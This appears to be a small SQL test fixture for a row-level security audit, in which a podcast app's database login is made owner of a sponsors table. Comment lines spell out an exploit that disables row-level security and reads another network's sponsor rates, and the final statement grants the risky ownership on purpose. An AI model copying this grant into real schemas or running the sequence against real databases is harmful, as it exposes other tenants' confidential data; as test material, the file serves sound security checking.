-- The application's login became the owner of a table to alter it in deployments; an owner may switch its
-- policies off.
-- about: sponsors, owner
-- as: hf_feedcaster_app
-- exploit: SET podcast.network = 'amber';
-- exploit: ALTER TABLE pod.sponsors DISABLE ROW LEVEL SECURITY;
-- exploit: SELECT company, cpm_cents FROM pod.sponsors;
-- shows: Road-secret Bank
ALTER TABLE pod.sponsors OWNER TO hf_feedcaster_app;
